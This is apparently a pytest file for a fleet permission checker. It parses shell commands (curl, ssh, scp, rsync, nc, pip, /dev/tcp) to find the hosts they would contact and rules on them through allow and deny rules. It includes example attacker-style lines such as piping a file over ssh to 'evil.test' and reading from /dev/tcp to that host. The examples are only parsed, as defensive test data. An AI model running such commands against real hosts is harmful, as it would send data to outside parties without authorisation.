"""`Net(HOST)` in permissions.toml: which hosts a command would reach. Command lines are only parsed here, never run."""

import pytest

from watchbill.errors import ConfigError
from watchbill.fleet.permissions.network import hosts_of
from watchbill.fleet.permissions.rules import Action, RuleBook
from watchbill.fleet.permissions.ruling import Line, Ruling, decide, read_rules
from watchbill.fleet.permissions.shellparts import ANYTHING
from watchbill.plans.placeholders import Placeholder

ALLOW, ASK, DENY = Action.ALLOW, Action.ASK, Action.DENY
ANY = ANYTHING

RULES = """\
default = "ask"
allow = ["curl *", "ssh *", "cat *", "Net(*.example.org)", "Net(localhost)", "Net(127.*)"]
deny = ["Net(*.evil.test)", "Net(evil.test)"]
"""


def ruling(command: str, rules: str = RULES, plan: str | None = None, item: str = "") -> Ruling:
    def value_of(_: Placeholder) -> str:
        return item

    own = None if plan is None else read_rules(plan, "plans/p/permissions.toml")
    book = RuleBook(read_rules(rules, "permissions.toml") if rules else None, own)
    return decide(Line(command, value_of, {}, "/fleet/plans/p", "/fleet/plans/p/history/b"), book)


@pytest.mark.parametrize(
    ("words", "hosts"),
    [
        ("cat a", []),
        ("curl https://a.example.org/x", ["a.example.org"]),
        ("curl -fsSL -o out.json https://u:p@a.example.org:8443/x?y=z", ["a.example.org"]),
        ("curl a.example.org/x b.example.org", ["a.example.org", "b.example.org"]),
        ("curl -H Accept:x --output out https://A.Example.ORG", ["a.example.org"]),
        ("curl --silent a.example.org", ["a.example.org", ANY]),
        ("curl --fail --silent https://a.example.org", ["a.example.org"]),
        ("curl http://[::1]:80/x", ["::1"]),
        ("curl https://{a,b}.example.org", [ANY]),
        ("wget -q -O - http://127.0.0.1:8080/", ["127.0.0.1"]),
        ("ssh -p 22 user@rig nvidia-smi --list", ["rig"]),
        ("ssh rig", ["rig"]),
        ("scp a.txt user@rig:/data", ["rig"]),
        ("scp a.txt b.txt", []),
        ("rsync -a a/ b/", []),
        ("rsync -a a/ rig:b/", ["rig"]),
        ("rsync -a rsync://rig/b a", ["rig"]),
        ("nc -w 1 rig 80", ["rig"]),
        ("git status", []),
        ("git clone git@forge.example.org:a/b.git", ["forge.example.org"]),
        ("git clone https://forge.example.org/a/b", ["forge.example.org"]),
        ("git pull", [ANY]),
        ("pip list", []),
        ("pip install a", [ANY]),
        ("python3 -m pip install a", [ANY]),
        ("/usr/bin/pip3.11 install -r requirements.txt", [ANY]),
        ("python3 fetch.py --from https://a.example.org/x", ["a.example.org"]),
        ("python3 read.py file:///data/x", []),
        ("yt-dlp https://video.example.org/1", ["video.example.org"]),
        ("docker images", []),
        ("docker pull x", [ANY]),
    ],
)
def test_the_hosts_of_a_program_are_read_from_its_words(words: str, hosts: list[str]) -> None:
    """FLEET-10."""
    assert list(hosts_of(words.split())) == hosts


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl https://a.example.org", ALLOW),
        ("curl https://a.example.org https://other.test", ASK),
        ("curl https://a.evil.test", DENY),
        ("curl https://a.example.org; cat a | ssh evil.test cat", DENY),
        ("timeout 5 curl http://localhost:80", ALLOW),
        ("cat < /dev/tcp/127.0.0.1/80", ALLOW),
        ("cat < /dev/tcp/evil.test/80", DENY),
        ('curl "$URL"', ASK),
        ("curl {ITEM}", ALLOW),
        ("curl https://{ITEM}", ALLOW),
        ("bash -c 'curl https://a.evil.test'", DENY),
        ("cat a", ALLOW),
    ],
)
def test_a_connection_is_ruled_by_its_host(command: str, expected: Action) -> None:
    """FLEET-10: allow and deny by host, the rest by the default of the file."""
    assert ruling(command, item="a.example.org").action is expected, ruling(command)


def test_a_value_that_names_another_host_is_ruled_by_that_host() -> None:
    """FLEET-10."""
    found = ruling("curl {ITEM}", item="http://a.evil.test/x")
    assert (found.action, "connect to a.evil.test" in str(found)) == (DENY, True)


@pytest.mark.parametrize("command", ["curl https://a.test", "pip install a", 'ssh "$HOST" ls', "git push"])
def test_a_question_about_every_host_covers_the_unknown_ones(command: str) -> None:
    """FLEET-10: also where the program itself is allowed, and where no other rule restricts anything."""
    allowed = 'allow = ["curl *", "pip *", "ssh *", "git *"]\n'
    assert ruling(command, f'{allowed}ask = ["Net(*)"]\n').action is ASK
    assert ruling(command, f'{allowed}deny = ["Net(*)"]\n').action is DENY
    assert ruling("ls", f'{allowed}ask = ["Net(*)"]\n').action is ALLOW


def test_files_that_say_nothing_about_hosts_rule_by_the_program_alone() -> None:
    """FLEET-10: a default is about hosts only in a file with a rule about them."""
    assert ruling("curl https://a.test", 'default = "ask"\nallow = ["curl *"]\n').action is ALLOW
    assert ruling("curl https://a.test", "").action is ALLOW
    plan = 'default = "deny"\nallow = ["curl *", "Net(b.test)"]\n'
    assert ruling("curl https://a.test", "", plan).action is DENY
    assert ruling("curl https://b.test", "", plan).action is ALLOW


def test_every_host_may_be_allowed() -> None:
    """FLEET-10."""
    rules = 'default = "ask"\nallow = ["curl *", "pip install *", "Net(*)"]\n'
    assert ruling('curl "$URL"', rules).action is ALLOW
    assert ruling("pip install a", rules).action is ALLOW


@pytest.mark.parametrize("rule", ["Net(https://a.test)", "Net(a b)", "Net()", "Nett(a)"])
def test_a_rule_that_names_no_host_is_refused(rule: str) -> None:
    with pytest.raises(ConfigError, match=r"permissions\.toml:1"):
        read_rules(f"allow = [{rule!r}]\n", "permissions.toml")
